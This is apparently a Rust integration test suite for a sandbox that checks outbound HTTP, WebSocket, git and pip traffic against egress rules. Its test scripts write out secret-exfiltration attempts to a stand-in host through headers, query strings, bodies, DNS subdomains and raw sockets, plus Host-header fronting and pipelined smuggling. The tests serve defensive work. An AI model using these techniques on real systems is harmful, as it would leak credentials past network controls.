//! Request-level egress through the real binary: local HTTPS servers with a test CA
//! (made here with rcgen) stand in for the internet; curl (HTTP/1.1 and HTTP/2),
//! Python urllib and Node fetch run inside the sandbox. Every request is checked:
//! allowed method and path reach the server, others get 403 and a violation and
//! never reach it; a second request naming another host on a kept-alive connection
//! is refused on HTTP/1.1 and HTTP/2; caps cut uploads and request counts; an
//! upstream whose certificate does not verify is refused, never downgraded.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use crate::escape::{Lab, Outcome};

/// A Python HTTPS server on the host's loopback, killed on drop.
struct Upstream {
    child: Child,
    port: u16,
    log: PathBuf,
}

impl Drop for Upstream {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Upstream {
    fn start(lab: &Lab, tag: &str, cert: Option<(&Path, &Path)>) -> Upstream {
        Upstream::start_in(lab, tag, cert, None)
    }

    /// Also serving the files under `root`.
    fn start_in(
        lab: &Lab,
        tag: &str,
        cert: Option<(&Path, &Path)>,
        root: Option<&Path>,
    ) -> Upstream {
        let log = lab.path(&format!("{tag}.log"));
        std::fs::write(&log, "").unwrap();
        let script =
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/https_server.py");
        let (c, k) = cert.map_or(("-".into(), "-".into()), |(c, k)| {
            (c.display().to_string(), k.display().to_string())
        });
        let mut child = Command::new("python3")
            .arg(script)
            .arg(&log)
            .args([c, k])
            .args(root)
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line.trim().parse().expect("server port");
        Upstream { child, port, log }
    }

    fn requests(&self) -> Vec<String> {
        std::fs::read_to_string(&self.log)
            .unwrap()
            .lines()
            .map(str::to_owned)
            .collect()
    }
}

/// A CA, and a leaf for `names` signed by it: (ca.pem, leaf.pem, leaf.key).
fn test_ca(lab: &Lab, names: &[&str]) -> (PathBuf, PathBuf, PathBuf) {
    use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
    let ca_key = KeyPair::generate().unwrap();
    let mut ca = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let ca_cert = ca.self_signed(&ca_key).unwrap();
    let issuer = Issuer::new(ca, ca_key);
    let key = KeyPair::generate().unwrap();
    let leaf = CertificateParams::new(names.iter().map(|n| n.to_string()).collect::<Vec<_>>())
        .unwrap()
        .signed_by(&key, &issuer)
        .unwrap();
    let (a, b, c) = (
        lab.path("ca.pem"),
        lab.path("leaf.pem"),
        lab.path("leaf.key"),
    );
    std::fs::write(&a, ca_cert.pem()).unwrap();
    std::fs::write(&b, leaf.pem()).unwrap();
    std::fs::write(&c, key.serialize_pem()).unwrap();
    (a, b, c)
}

/// A skill whose entrypoint is `sh t.sh` with `script`, under `egress` rules.
fn skill(lab: &Lab, name: &str, egress: &str, script: &str) -> PathBuf {
    let dir = lab.path(name);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("t.sh"), script).unwrap();
    std::fs::write(
        dir.join("skillsandbox.yaml"),
        format!(
            "skill: {{name: {name}, version: \"0.1.0\"}}\n\
             permissions:\n  network:\n    egress:\n{egress}\n\
             resources: {{max_runtime_seconds: 60}}\n\
             entrypoint:\n  command: sh\n  args: [t.sh]\n"
        ),
    )
    .unwrap();
    dir
}

fn run(lab: &Lab, dir: &Path, roots: Option<&Path>) -> Outcome {
    let hosts = lab.path("hosts");
    std::fs::write(&hosts, "127.0.0.1 good.test other.test\n").unwrap();
    let mut c = lab.cmd();
    c.env("SKILLSANDBOX_EGRESS_HOSTS", &hosts);
    if let Some(r) = roots {
        c.env("SKILLSANDBOX_EGRESS_ROOTS", r);
    }
    Outcome::from(c.args(["run", "--json"]).arg(dir).output().unwrap())
}

fn line<'a>(o: &'a Outcome, key: &str) -> &'a str {
    o.stdout
        .lines()
        .find_map(|l| l.strip_prefix(&format!("{key}=")))
        .unwrap_or_else(|| panic!("no {key}= line:\n{}", o.dump()))
}

fn rules(port: u16, extra: &str) -> String {
    format!(
        "      - domain: good.test\n        ports: [{port}]\n        methods: [GET, POST]\n        paths: [\"/ok*\", \"/upload\"]\n{extra}\
         \x20     - domain: other.test\n        ports: [{port}]\n\
         \x20     - cidr: 127.0.0.1/32\n        ports: [{port}]"
    )
}

#[test]
fn every_request_is_checked_over_tls_on_http1_and_http2() {
    let Some(lab) = Lab::new() else { return };
    let (ca, cert, key) = test_ca(&lab, &["good.test", "other.test"]);
    let up = Upstream::start(&lab, "tls", Some((&cert, &key)));
    let p = up.port;
    let u = |path: &str| format!("https://good.test:{p}{path}");
    let script = format!(
        "c() {{ curl -s -o /dev/null -w '%{{http_code}}' \"$@\"; }}\n\
         echo ok=$(c {ok})\n\
         echo path=$(c {bad})\n\
         echo method=$(c -X DELETE {ok})\n\
         echo h2=$(curl -s --http2 -o /dev/null -w '%{{http_version}}/%{{http_code}}' {ok})\n\
         echo front1=$(c --http1.1 {ok} --next --http1.1 -s -o /dev/null -w '/%{{http_code}}' -H 'Host: other.test:{p}' {ok})\n\
         echo front2=$(c --http2 {ok} --next --http2 -s -o /dev/null -w '/%{{http_code}}' -H 'Host: other.test:{p}' {ok})\n\
         echo py=$(python3 -c 'import urllib.request,sys; print(urllib.request.urlopen(sys.argv[1]).status)' {ok})\n\
         echo node=$(node -e 'fetch(process.argv[1]).then(r => console.log(r.status), e => console.log(\"ERR\", e.cause))' {ok})\n",
        ok = u("/ok.txt"),
        bad = u("/secret.txt"),
    );
    let dir = skill(&lab, "l7-tls", &rules(p, ""), &script);
    let o = run(&lab, &dir, Some(&ca));
    assert_eq!(o.exit_code, 0, "{}", o.dump());
    assert_eq!(line(&o, "ok"), "200", "{}", o.dump());
    assert_eq!(line(&o, "path"), "403", "{}", o.dump());
    assert_eq!(line(&o, "method"), "403", "{}", o.dump());
    assert_eq!(line(&o, "h2"), "2/200", "{}", o.dump());
    assert_eq!(line(&o, "front1"), "200/403", "{}", o.dump());
    assert_eq!(line(&o, "front2"), "200/403", "{}", o.dump());
    assert_eq!(line(&o, "py"), "200", "{}", o.dump());
    assert_eq!(line(&o, "node"), "200", "{}", o.dump());
    let v = o.violations().join("\n");
    assert!(
        v.contains("network_blocked: HTTP GET /secret.txt to good.test: not allowed"),
        "{v}"
    );
    assert!(
        v.contains("network_blocked: HTTP DELETE /ok.txt to good.test"),
        "{v}"
    );
    assert_eq!(
        v.matches("domain_mismatch: HTTP GET /ok.txt to good.test: the request names other.test on a connection made for good.test").count(),
        2,
        "{v}"
    );
    // Only allowed requests reached the server.
    let seen = up.requests();
    assert!(!seen.is_empty());
    assert!(
        seen.iter().all(|r| r.starts_with("GET /ok.txt good.test:")),
        "{seen:?}"
    );
}

#[test]
fn plain_http_keep_alive_is_checked_per_request_and_caps_cut() {
    let Some(lab) = Lab::new() else { return };
    let up = Upstream::start(&lab, "plain", None);
    let p = up.port;
    let ok = format!("http://good.test:{p}/ok.txt");
    let script = format!(
        "c() {{ curl -s -o /dev/null -w '%{{http_code}}' \"$@\"; }}\n\
         echo front=$(c {ok} --next -s -o /dev/null -w '/%{{http_code}}' -H 'Host: other.test:{p}' {ok})\n\
         head -c 3000 /dev/zero > /tmp/big\n\
         echo small=$(c --data-binary hello http://good.test:{p}/upload)\n\
         echo big=$(c --data-binary @/tmp/big http://good.test:{p}/upload)\n\
         echo third=$(c {ok})\n"
    );
    let caps = "        max_bytes_out: 2KB\n        max_requests: 4\n";
    let dir = skill(&lab, "l7-plain", &rules(p, caps), &script);
    let o = run(&lab, &dir, None);
    assert_eq!(o.exit_code, 0, "{}", o.dump());
    assert_eq!(line(&o, "front"), "200/403", "{}", o.dump());
    assert_eq!(line(&o, "small"), "200", "{}", o.dump());
    assert_eq!(line(&o, "big"), "413", "{}", o.dump());
    // Requests so far: ok, small, big (cut): the fourth is allowed, the fifth is not.
    assert_eq!(line(&o, "third"), "200", "{}", o.dump());
    let v = o.violations().join("\n");
    assert!(v.contains("network_cap: HTTP POST /upload to good.test: the request body passes max_bytes_out (2000 bytes per run)"), "{v}");
    let seen = up.requests();
    assert!(
        seen.iter()
            .any(|r| r.starts_with("POST /upload good.test:") && r.contains(" 5 ")),
        "{seen:?}"
    );
    assert!(
        !seen.iter().any(|r| r.contains(" 3000 ")),
        "the cut upload reached the server: {seen:?}"
    );
    // Checked requests count their bytes in the trace (what the session's
    // `budget.egress_bytes` sums across runs).
    let conns = o.json["network"]["connections"].as_array().unwrap();
    assert!(
        conns.iter().any(|c| c["reason"]
            .as_str()
            .unwrap_or("")
            .contains("HTTP POST /upload to good.test: 200")
            && c["bytes_out"] == 5
            && c["bytes_in"].as_u64().unwrap_or(0) > 0),
        "{}",
        o.dump()
    );

    let script =
        format!("for i in 1 2 3; do curl -s -o /dev/null -w 'r%{{http_code}} ' {ok}; done; echo\n");
    let dir = skill(
        &lab,
        "l7-count",
        &rules(p, "        max_requests: 2\n"),
        &script,
    );
    let o = run(&lab, &dir, None);
    assert!(o.stdout.contains("r200 r200 r429"), "{}", o.dump());
    assert!(
        o.violations()
            .join("\n")
            .contains("network_cap: HTTP GET /ok.txt to good.test: request 3 of at most 2"),
        "{}",
        o.dump()
    );
}

#[test]
fn an_upstream_that_does_not_verify_is_refused_not_downgraded() {
    let Some(lab) = Lab::new() else { return };
    let (_ca, cert, key) = test_ca(&lab, &["good.test"]);
    let up = Upstream::start(&lab, "untrusted", Some((&cert, &key)));
    let p = up.port;
    let script = format!(
        "echo code=$(curl -s -o /dev/null -w '%{{http_code}}' https://good.test:{p}/ok.txt)\n"
    );
    let dir = skill(&lab, "l7-untrusted", &rules(p, ""), &script);
    // The test CA is not given as an extra root: the system roots do not know it.
    let o = run(&lab, &dir, None);
    assert_eq!(line(&o, "code"), "502", "{}", o.dump());
    let conns = o.json["network"]["connections"].to_string();
    assert!(conns.contains("never downgraded"), "{conns}");
    assert!(up.requests().is_empty(), "{:?}", up.requests());
}

#[test]
fn secrets_reach_only_their_host_and_never_the_sandbox_or_the_records() {
    let Some(lab) = Lab::new() else { return };
    let (ca, cert, key) = test_ca(&lab, &["good.test", "other.test"]);
    let up = Upstream::start(&lab, "secrets", Some((&cert, &key)));
    let p = up.port;
    let value = crate::escape::unique("TOKENVALUE");
    let script = format!(
        "echo env=$API_TOKEN\n\
         env > /tmp/env.txt; echo envdump=$(grep -c '{marker}' /tmp/env.txt)\n\
         echo good=$(curl -s -H \"Authorization: Bearer $API_TOKEN\" https://good.test:{p}/ok.txt)\n\
         echo other=$(curl -s -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $API_TOKEN\" https://other.test:{p}/ok.txt)\n\
         echo query=$(curl -s -o /dev/null -w '%{{http_code}}' \"https://other.test:{p}/ok.txt?t=$API_TOKEN\")\n\
         echo body=$(curl -s -o /dev/null -w '%{{http_code}}' --data \"k=$API_TOKEN\" https://other.test:{p}/upload)\n\
         echo raw=$(python3 -c 'import socket,sys\ns = socket.create_connection((\"127.0.0.1\", int(sys.argv[1])))\ns.sendall(b\"hello \" + sys.argv[2].encode())\ntry:\n print(len(s.recv(100)))\nexcept OSError:\n print(\"reset\")' {p} $API_TOKEN)\n\
         echo dns=$(python3 -c 'import socket,sys\ntry:\n socket.getaddrinfo(sys.argv[1] + \".good.test\", 443); print(\"resolved\")\nexcept OSError: print(\"refused\")' $API_TOKEN)\n",
        marker = "TOKENVALUE",
    );
    let egress = format!(
        "      - domain: good.test\n        ports: [{p}]\n      - domain: other.test\n        ports: [{p}]\n      - cidr: 127.0.0.1/32\n        ports: [{p}]\n  secrets:\n    API_TOKEN:\n      from: env:SKSB_TEST_API_TOKEN\n      hosts: [good.test]\n      header: Authorization"
    );
    let dir = skill(&lab, "l7-secrets", &egress, &script);
    let hosts = lab.path("hosts");
    std::fs::write(&hosts, "127.0.0.1 good.test other.test\n").unwrap();
    let trace = lab.path("secrets-trace.json");
    let out = lab
        .cmd()
        .env("SKILLSANDBOX_EGRESS_HOSTS", &hosts)
        .env("SKILLSANDBOX_EGRESS_ROOTS", &ca)
        .env("SKSB_TEST_API_TOKEN", &value)
        .args(["run", "--json", "--trace-output"])
        .arg(&trace)
        .arg(&dir)
        .output()
        .unwrap();
    let o = Outcome::from(out);
    assert_eq!(o.exit_code, 0, "{}", o.dump());
    let placeholder = line(&o, "env").to_string();
    assert!(
        placeholder.starts_with("sksb") && placeholder.len() == 36,
        "{}",
        o.dump()
    );
    assert_eq!(line(&o, "envdump"), "0", "{}", o.dump());
    // The allowed host got the real value; the sandbox got the echo back as the
    // placeholder.
    let seen = up.requests();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert!(seen[0].ends_with(&format!("Bearer {value}")), "{seen:?}");
    assert!(
        line(&o, "good").ends_with(&format!("auth=Bearer {placeholder}")),
        "{}",
        o.dump()
    );
    for k in ["other", "query", "body"] {
        assert_eq!(line(&o, k), "403", "{k}: {}", o.dump());
    }
    assert_eq!(line(&o, "dns"), "refused", "{}", o.dump());
    // A raw connection to an address a cidr rule allows is scanned too.
    assert!(["0", "reset"].contains(&line(&o, "raw")), "{}", o.dump());
    let v = o.violations().join("\n");
    assert_eq!(v.matches("secret_exfiltration: HTTP").count(), 3, "{v}");
    assert!(v.contains("carries the placeholder of secret API_TOKEN (in the headers), which may only go to good.test"), "{v}");
    assert!(v.contains("(in the path or query)"), "{v}");
    assert!(v.contains("(in the body)"), "{v}");
    assert!(
        v.contains("secret_exfiltration: DNS A query carries the placeholder of secret API_TOKEN"),
        "{v}"
    );
    assert!(
        v.contains("secret_exfiltration: TCP connection to 127.0.0.1:")
            && v.contains("the stream carries the placeholder of secret API_TOKEN; cut before it went upstream"),
        "{v}"
    );
    // The value is nowhere: not in any output, the trace or the audit log.
    let trace_text = std::fs::read_to_string(&trace).unwrap();
    assert!(
        trace_text.contains("secret API_TOKEN swapped in for good.test"),
        "{trace_text}"
    );
    let audit = std::fs::read_to_string(lab.path("state/audit.jsonl")).unwrap();
    for (what, text) in [
        ("output", o.everything()),
        ("trace", trace_text),
        ("audit", audit),
    ] {
        assert!(
            !text.contains(&value),
            "the secret value leaked into the {what}"
        );
    }

    // A missing source refuses the run, naming the variable, never a value.
    let o = run(&lab, &dir, None);
    assert_eq!(o.exit_code, 125, "{}", o.dump());
    assert!(
        o.everything()
            .contains("secret API_TOKEN: env:SKSB_TEST_API_TOKEN is not set"),
        "{}",
        o.dump()
    );
}

/// A git repository (served the dumb way) and a one-package index under `root`.
fn serve_root(lab: &Lab) -> PathBuf {
    let root = lab.path("www");
    let work = lab.path("repo-src");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::write(work.join("README"), "cloned-through-the-sandbox\n").unwrap();
    let sh = format!(
        "set -e; cd {w}; git init -q; git -c user.name=t -c user.email=t@t add README; \
         git -c user.name=t -c user.email=t@t commit -qm init; \
         git clone -q --bare {w} {r}/repo.git; cd {r}/repo.git; git update-server-info",
        w = work.display(),
        r = root.display()
    );
    let st = Command::new("sh").args(["-c", &sh]).status().unwrap();
    assert!(st.success(), "making the test repository failed");
    let py = "import sys, zipfile, os\n\
        root = sys.argv[1]\n\
        os.makedirs(root + '/files'); os.makedirs(root + '/simple/skpkg')\n\
        w = 'skpkg-0.1-py3-none-any.whl'\n\
        with zipfile.ZipFile(root + '/files/' + w, 'w') as z:\n\
        \x20   z.writestr('skpkg/__init__.py', '')\n\
        \x20   z.writestr('skpkg-0.1.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: skpkg\\nVersion: 0.1\\n')\n\
        \x20   z.writestr('skpkg-0.1.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
        \x20   z.writestr('skpkg-0.1.dist-info/RECORD', '')\n\
        open(root + '/simple/index.html', 'w').write('<a href=\"skpkg/\">skpkg</a>')\n\
        open(root + '/simple/skpkg/index.html', 'w').write('<a href=\"../../files/' + w + '\">' + w + '</a>')\n";
    let st = Command::new("python3")
        .args(["-c", py])
        .arg(&root)
        .status()
        .unwrap();
    assert!(st.success(), "making the test index failed");
    root
}

#[test]
fn python_requests_node_https_git_and_pip_go_through_checked_egress() {
    let Some(lab) = Lab::new() else { return };
    let (ca, cert, key) = test_ca(&lab, &["good.test", "other.test"]);
    let root = serve_root(&lab);
    let up = Upstream::start_in(&lab, "clients", Some((&cert, &key)), Some(&root));
    let p = up.port;
    let u = |path: &str| format!("https://good.test:{p}{path}");
    let script = format!(
        "echo requests=$(/usr/bin/python3 -c 'import requests,sys; print(requests.get(sys.argv[1]).status_code, requests.get(sys.argv[2]).status_code)' {ok} {bad})\n\
         echo https=$(node -e 'require(\"https\").get(process.argv[1], {{agent: false}}, r => {{ console.log(r.statusCode); r.resume(); }}).on(\"error\", e => console.log(\"ERR\", e.message))' {ok})\n\
         git clone -q {repo} /tmp/r 2>/tmp/git.err; echo git=$(cat /tmp/r/README 2>/dev/null || cat /tmp/git.err)\n\
         /usr/bin/python3 -m pip download -q --no-deps --no-cache-dir --disable-pip-version-check -d /tmp/dl --index-url {index} skpkg >/tmp/pip.err 2>&1; echo pip=$(ls /tmp/dl 2>/dev/null || tail -3 /tmp/pip.err)\n\
         /usr/bin/python3 -m pip download -q --no-deps --no-cache-dir --disable-pip-version-check -d /tmp/dl2 --index-url {other} skpkg >/dev/null 2>&1; echo pipother=$?\n",
        ok = u("/ok.txt"),
        bad = u("/secret.txt"),
        repo = u("/repo.git"),
        index = u("/simple/"),
        other = u("/simple/").replace("good.test", "other.test"),
    );
    let egress = format!(
        "      - domain: good.test\n        ports: [{p}]\n        methods: [GET]\n        paths: [\"/ok*\", \"/repo.git/*\", \"/simple/*\", \"/files/*\"]\n\
         \x20     - domain: other.test\n        ports: [{p}]\n        paths: [\"/ok*\"]\n\
         \x20     - cidr: 127.0.0.1/32\n        ports: [{p}]"
    );
    let dir = skill(&lab, "l7-clients", &egress, &script);
    let o = run(&lab, &dir, Some(&ca));
    assert_eq!(o.exit_code, 0, "{}", o.dump());
    assert_eq!(line(&o, "requests"), "200 403", "{}", o.dump());
    assert_eq!(line(&o, "https"), "200", "{}", o.dump());
    assert_eq!(
        line(&o, "git"),
        "cloned-through-the-sandbox",
        "{}",
        o.dump()
    );
    assert_eq!(
        line(&o, "pip"),
        "skpkg-0.1-py3-none-any.whl",
        "{}",
        o.dump()
    );
    assert_ne!(line(&o, "pipother"), "0", "{}", o.dump());
    let v = o.violations().join("\n");
    assert!(
        v.contains("network_blocked: HTTP GET /secret.txt to good.test"),
        "{v}"
    );
    assert!(
        v.contains("network_blocked: HTTP GET /simple/skpkg/ to other.test"),
        "{v}"
    );
    let seen = up.requests();
    assert!(
        seen.iter()
            .any(|r| r.starts_with("GET /repo.git/info/refs")),
        "{seen:?}"
    );
    assert!(
        seen.iter().any(|r| r.starts_with("GET /files/skpkg-0.1")),
        "{seen:?}"
    );
    assert!(
        !seen
            .iter()
            .any(|r| r.contains("/secret.txt") || r.contains("other.test")),
        "a refused request reached the server: {seen:?}"
    );
}

#[test]
fn websocket_upgrades_and_pipelined_requests_are_checked() {
    let Some(lab) = Lab::new() else { return };
    let (ca, cert, key) = test_ca(&lab, &["good.test", "other.test"]);
    let up = Upstream::start(&lab, "ws", Some((&cert, &key)));
    let p = up.port;
    let plain = Upstream::start(&lab, "pipelined", None);
    let q = plain.port;
    let ws = "const [u] = process.argv.slice(2); const w = new WebSocket(u);\n\
        w.onopen = () => w.send('hi'); w.onmessage = m => { console.log(m.data); w.close(); };\n\
        w.onerror = () => console.log('refused');";
    // Two requests in one write: the second names another host.
    let pipe = "import socket, sys\n\
        s = socket.create_connection(('good.test', int(sys.argv[1])))\n\
        r = 'GET /ok.txt HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'\n\
        f = 'GET /ok.txt HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n'\n\
        s.sendall((r + f).encode())\n\
        got = b''\n\
        while True:\n\
        \x20   b = s.recv(4096)\n\
        \x20   if not b: break\n\
        \x20   got += b\n\
        import re; print(' '.join(re.findall(r'HTTP/1.1 (\\d+)', got.decode(errors='replace'))))\n";
    let script = format!(
        "cat > /tmp/ws.js <<'JS'\n{ws}\nJS\n\
         cat > /tmp/pipe.py <<'PY'\n{pipe}PY\n\
         echo ws=$(node --experimental-websocket /tmp/ws.js wss://good.test:{p}/ok-ws 2>/dev/null)\n\
         echo wsbad=$(node --experimental-websocket /tmp/ws.js wss://good.test:{p}/other-ws 2>/dev/null)\n\
         echo wsbig=$(node --experimental-websocket -e 'const w = new WebSocket(process.argv[1]); w.onopen = () => w.send(\"x\".repeat(5000)); w.onmessage = m => console.log(\"echoed\", m.data.length); w.onclose = () => console.log(\"closed\")' wss://good.test:{p}/ok-big 2>/dev/null)\n\
         echo pipelined=$(python3 /tmp/pipe.py {q})\n\
         echo h2c=$(curl -s --http2 -o /dev/null -w '%{{http_version}}/%{{http_code}}' http://good.test:{q}/ok.txt)\n"
    );
    let egress = format!(
        "      - domain: good.test\n        ports: [{p}, {q}]\n        paths: [\"/ok*\"]\n        max_bytes_out: 4KB\n\
         \x20     - domain: other.test\n        ports: [{p}, {q}]\n\
         \x20     - cidr: 127.0.0.1/32\n        ports: [{p}, {q}]"
    );
    let dir = skill(&lab, "l7-ws", &egress, &script);
    let o = run(&lab, &dir, Some(&ca));
    assert_eq!(o.exit_code, 0, "{}", o.dump());
    assert_eq!(line(&o, "ws"), "echo:hi", "{}", o.dump());
    assert_eq!(line(&o, "wsbad"), "refused", "{}", o.dump());
    assert_eq!(line(&o, "wsbig"), "closed", "{}", o.dump());
    assert_eq!(line(&o, "pipelined"), "200 403", "{}", o.dump());
    // curl's h2c upgrade is not switched: it goes on as HTTP/1.1.
    assert_eq!(line(&o, "h2c"), "1.1/200", "{}", o.dump());
    let v = o.violations().join("\n");
    assert!(
        v.contains("network_blocked: HTTP GET /other-ws to good.test"),
        "{v}"
    );
    assert!(
        v.contains("network_cap: HTTP GET /ok-big to good.test: the upgraded connection passes max_bytes_out"),
        "{v}"
    );
    assert!(
        v.contains("domain_mismatch: HTTP GET /ok.txt to good.test: the request names other.test"),
        "{v}"
    );
    let seen = up.requests();
    assert!(
        seen.iter().any(|r| r.starts_with("GET /ok-ws ")),
        "{seen:?}"
    );
    assert!(!seen.iter().any(|r| r.contains("/other-ws")), "{seen:?}");
    // The pipelined pair's first request and curl's h2c request; never the fronted one.
    let piped = plain.requests();
    assert_eq!(
        piped.len(),
        2,
        "the fronted request reached the server: {piped:?}"
    );
    let conns = o.json["network"]["connections"].to_string();
    assert!(conns.contains("upgraded connection relayed"), "{conns}");
}

#[test]
fn a_download_is_streamed_and_cut_at_max_bytes_in() {
    let Some(lab) = Lab::new() else { return };
    let root = lab.path("dl");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(root.join("ok-small.bin"), vec![b'a'; 500]).unwrap();
    std::fs::write(root.join("ok-big.bin"), vec![b'b'; 300_000]).unwrap();
    let up = Upstream::start_in(&lab, "dl", None, Some(&root));
    let p = up.port;
    let script = format!(
        "echo small=$(curl -s http://good.test:{p}/ok-small.bin | wc -c)\n\
         curl -s -o /tmp/big http://good.test:{p}/ok-big.bin; echo big=$? $(wc -c < /tmp/big)\n"
    );
    let dir = skill(
        &lab,
        "l7-download",
        &rules(p, "        max_bytes_in: 100KB\n"),
        &script,
    );
    let o = run(&lab, &dir, None);
    assert_eq!(o.exit_code, 0, "{}", o.dump());
    assert_eq!(line(&o, "small"), "500", "{}", o.dump());
    let big = line(&o, "big");
    let (code, got) = big.split_once(' ').unwrap();
    assert_ne!(code, "0", "the download was not cut: {}", o.dump());
    let got: u64 = got.trim().parse().unwrap();
    assert!(got < 300_000, "all of it arrived: {}", o.dump());
    let v = o.violations().join("\n");
    assert!(
        v.contains("network_cap: HTTP GET /ok-big.bin to good.test: the response passes max_bytes_in (100000 bytes per run); cut"),
        "{v}"
    );
    let conns = o.json["network"]["connections"].to_string();
    assert!(conns.contains("cut at max_bytes_in"), "{conns}");
}

#[test]
fn the_session_budget_sums_checked_bytes_across_runs() {
    let Some(lab) = Lab::new() else { return };
    let up = Upstream::start(&lab, "budget", None);
    let p = up.port;
    let script = format!(
        "head -c 2000 /dev/zero > /tmp/up\n\
         echo code=$(curl -s -o /dev/null -w '%{{http_code}}' --data-binary @/tmp/up http://good.test:{p}/upload)\n"
    );
    let dir = skill(&lab, "l7-budget", &rules(p, ""), &script);
    let policy = lab.path("policy.yaml");
    std::fs::write(
        &policy,
        "budget:\n  egress_bytes: 3000\n  on_exceed: block\n",
    )
    .unwrap();
    let hosts = lab.path("hosts");
    std::fs::write(&hosts, "127.0.0.1 good.test other.test\n").unwrap();
    let go = || {
        Outcome::from(
            lab.cmd()
                .env("SKILLSANDBOX_EGRESS_HOSTS", &hosts)
                .env("XDG_CONFIG_HOME", lab.path("config"))
                .args(["run", "--json", "--session", "l7-budget", "--policy"])
                .arg(&policy)
                .arg(&dir)
                .output()
                .unwrap(),
        )
    };
    // 2000 bytes up plus the answer: under 3000 after one run, over after two.
    for _ in 0..2 {
        let o = go();
        assert_eq!(o.exit_code, 0, "{}", o.dump());
        assert_eq!(line(&o, "code"), "200", "{}", o.dump());
    }
    let o = go();
    assert_eq!(
        o.exit_code,
        3,
        "the spent budget did not refuse: {}",
        o.dump()
    );
    assert!(o.everything().contains("egress_bytes"), "{}", o.dump());
    assert_eq!(
        up.requests()
            .iter()
            .filter(|r| r.starts_with("POST /upload"))
            .count(),
        2
    );
}
